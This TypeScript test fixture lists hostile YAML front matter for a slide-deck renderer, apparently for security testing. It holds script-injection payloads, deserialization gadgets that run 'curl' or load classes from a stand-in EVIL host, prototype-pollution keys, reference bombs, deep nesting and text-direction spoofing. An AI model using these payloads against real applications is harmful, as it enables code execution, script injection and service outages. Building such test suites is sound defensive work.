import { EVIL, RUN, frontMatterDecks } from './hostile-deck.ts';

const IMG = `<img src=x onerror=${RUN}>`;

/** What YAML can say at the top of a deck. */
export const FRONT_MATTER_DECKS = frontMatterDecks('front matter', {
  'markup in the title': `title: '${IMG}<script>${RUN}</script>'\ndescription: '"><script>${RUN}</script>'`,
  'markup in tags': `tags: ['${IMG}', '</script><script>${RUN}</script>']`,
  'markup in the language': `lang: '"><img src=x onerror=${RUN}>'\ndir: 'rtl" onload="${RUN}'`,
  'markup in robots': `robots: '"><meta http-equiv=refresh content="0;url=${EVIL}/">'\ntype: '${IMG}'`,
  'end of a title': `title: '</title><script>${RUN}</script>'\ndate: '2026-01-01"><script>${RUN}</script>'`,
  'a function': `title: !!js/function 'function() { ${RUN} }'`,
  'an undefined': 'title: !!js/undefined ""\nbreaks: !!js/regexp /x/',
  'an object of Python': `title: !!python/object/apply:os.system ['curl ${EVIL}']`,
  'an object of Ruby': 'title: !ruby/object:Gem::Installer {}\n',
  'a Java class': `title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["${EVIL}/"]]]]`,
  prototype: '__proto__: { pwned: 1, slideOptions: { postMessage: true } }\ntitle: x',
  'prototype in quotes': '"__proto__": { "pwned": 1 }\n"constructor": { "prototype": { "pwned": 1 } }',
  'prototype by merging': 'a: &a { __proto__: { pwned: 1 } }\n<<: *a\ntitle: x',
  'prototype in options': 'slideOptions: { "__proto__": { "pwned": 1, "embedded": true }, "constructor": 1 }',
  'names of methods': 'toString: x\nvalueOf: x\nhasOwnProperty: x\ntoJSON: x\nthen: x',
  'a bomb of references':
    'a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\nh: [*g,*g,*g,*g,*g,*g,*g,*g,*g]\ntags: *g\nslideOptions: { theme: *g, width: *g }',
  'a circle': 'a: &a { b: *a }\nslideOptions: &s { theme: *s }\ntags: &t [*t]',
  'deep nesting': `a: ${'['.repeat(5000)}${']'.repeat(5000)}`,
  'deep mappings': `a: ${'{a: '.repeat(2000)}1${'}'.repeat(2000)}`,
  'a long key': `${'k'.repeat(20_000)}: x\ntitle: x`,
  'thousands of keys': Array.from({ length: 4000 }, (_, index) => `k${index}: ${index}`).join('\n'),
  'the same key twice': 'title: x\ntitle: y\nslideOptions: {}\nslideOptions: { embedded: true }',
  'a block of text': `title: |\n  ${IMG}\n  <script>${RUN}</script>\ndescription: >-\n  ${IMG}`,
  'control characters': 'title: "\\0\\x07\\e[31m\\u2028\\u202Ex"',
  'right to left': 'title: "\\u202Egnp.exe\\u2066"\nlang: ar\ndir: rtl\nslideOptions: { rtl: true }',
  'other documents': `title: x\n...\n---\ntitle: ${IMG}`,
  directives: `%YAML 1.2\n%TAG ! tag:evil.example,2026:\ntitle: !x ${IMG}`,
  analytics: `GA: UA-1"><script src="${EVIL}/x.js"></script>\ndisqus: '"><script src=${EVIL}/x.js></script>'`,
  'open graph': `opengraph:\n  image: ${EVIL}/x.png\n  'og:url"><script>${RUN}</script>': x`,
  'numbers that are none': 'title: .nan\ndate: .inf\ntags: 1\nbreaks: 0x1\nlang: 1e999',
  binary: 'title: !!binary PHNjcmlwdD4=\ntags: !!set { x, y }\ndescription: !!omap [a: 1]',
});
